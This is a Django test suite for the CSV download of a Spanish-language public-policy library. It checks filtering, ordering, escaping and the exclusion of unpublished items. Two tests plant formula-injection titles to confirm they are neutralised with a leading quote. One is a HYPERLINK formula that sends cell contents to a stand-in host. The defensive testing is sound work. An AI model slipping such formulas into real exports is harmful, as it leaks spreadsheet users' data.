"""CSV export of a library listing: streamed, exactly the filtered selection, readable back."""

import csv
import io

from django.http import StreamingHttpResponse

from knowledge.exports import COLUMNS
from knowledge.factories import GuidePageFactory


def download(client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    return response, b"".join(response.streaming_content)


def read_rows(body):
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


def test_csv_export_is_streamed_as_a_named_download(client, library, catalogue):
    response, _ = download(client, library.url + library.reverse_subpage("csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="red-att-biblioteca.csv"'


def test_csv_export_starts_with_a_plain_header_row(client, library, catalogue):
    _, body = download(client, f"{library.url}csv/")
    assert not body.startswith(b"\xef\xbb\xbf")
    header = next(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert header == list(COLUMNS)
    assert header[:4] == ["titulo", "tipo", "resumen", "url"]


def test_csv_export_parses_back_to_one_row_per_public_item(client, library, catalogue):
    _, body = download(client, f"{library.url}csv/")
    rows = read_rows(body)
    assert [row["titulo"] for row in rows] == [
        "Guía de salud pública territorial",
        "Práctica: brigadas de salud rural",
        "Lección de hacienda pública en Nariño",
    ]
    guide = rows[0]
    assert guide["tipo"] == "guía metodológica"
    assert guide["resumen"] == catalogue.health_guide.summary
    assert guide["url"] == catalogue.health_guide.get_full_url()
    assert guide["fecha_publicacion"] == "2025-03-01"
    assert guide["niveles_capacidad"] == "Institucional"
    assert guide["tipos_capacidad"] == "Institucional"
    assert guide["sectores"] == "Salud"
    assert guide["etapas_ciclo"] == "Planeación"
    assert guide["entidad"] == "DNP"
    assert guide["departamentos"] == "Nariño"
    assert guide["etiquetas"] == "vacunación"


def test_csv_export_contains_exactly_the_filtered_selection(client, library, catalogue):
    _, body = download(client, f"{library.url}csv/?sector=salud&departamento=52")
    assert [row["titulo"] for row in read_rows(body)] == ["Guía de salud pública territorial"]


def test_csv_export_follows_the_chosen_order(client, library, catalogue):
    _, body = download(client, f"{library.url}csv/?orden=titulo")
    assert [row["titulo"] for row in read_rows(body)] == [
        "Guía de salud pública territorial",
        "Lección de hacienda pública en Nariño",
        "Práctica: brigadas de salud rural",
    ]


def test_csv_export_never_includes_drafts_unpublished_or_restricted_items(
    client, library, catalogue
):
    _, body = download(client, f"{library.url}csv/?sector=salud")
    exported = {row["titulo"] for row in read_rows(body)}
    assert exported.isdisjoint(
        {"Borrador de salud", "Guía retirada de salud", "Guía interna de salud"}
    )


def test_csv_export_keeps_commas_quotes_line_breaks_and_several_terms_intact(client, library):
    title = 'Guía "rápida", paso a paso'
    summary = "Primera línea, con coma.\nSegunda línea."
    GuidePageFactory(
        parent=library, title=title, summary=summary, sectors=["salud", "hacienda-publica"]
    )
    _, body = download(client, f"{library.url}csv/")
    (row,) = read_rows(body)
    assert row["titulo"] == title
    assert row["resumen"] == summary
    assert row["sectores"].split("; ") == ["Salud", "Hacienda pública"]


def test_csv_export_of_an_empty_selection_is_just_the_header(client, library, catalogue):
    _, body = download(client, f"{library.url}csv/?sector=vivienda")
    assert body.decode("utf-8").splitlines() == [",".join(COLUMNS)]


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_opened_as_text(client, library):
    """Anyone may publish a practice and anyone downloads the file, often into a spreadsheet: a
    title that starts a formula gets a leading quote, as in the staff exports (see README)."""
    GuidePageFactory(
        parent=library,
        title='=HYPERLINK("http://example.org/robar?d="&A1,"Guía de catastro")',
        summary="-2 puntos de mejora",
    )
    _, body = download(client, f"{library.url}csv/")
    (row,) = read_rows(body)
    assert row["titulo"] == """'=HYPERLINK("http://example.org/robar?d="&A1,"Guía de catastro")"""
    assert row["resumen"] == "'-2 puntos de mejora"


def test_a_filtered_csv_quotes_formulas_too(client, library):
    GuidePageFactory(parent=library, title="@SUM(A1:A9) en la guía", sectors=["salud"])
    _, body = download(client, f"{library.url}csv/?sector=salud")
    assert [row["titulo"] for row in read_rows(body)] == ["'@SUM(A1:A9) en la guía"]
